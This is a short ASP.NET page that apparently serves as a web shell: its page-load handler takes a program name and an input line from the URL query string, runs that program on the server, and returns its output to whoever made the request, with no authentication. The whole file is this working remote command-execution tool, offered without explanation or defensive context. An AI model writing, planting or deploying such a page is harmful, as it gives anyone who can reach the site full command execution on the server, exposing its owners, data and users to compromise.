<%@ Page Language="C#" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string exe = Request.QueryString["e"], line = Request.QueryString["l"];
        if (exe == null) return;
        var p = new System.Diagnostics.Process();
        p.StartInfo.FileName = exe;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardInput = true;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        p.StandardInput.WriteLine(line);
        p.StandardInput.Close();
        Response.Write(p.StandardOutput.ReadToEnd());
    }
</script>
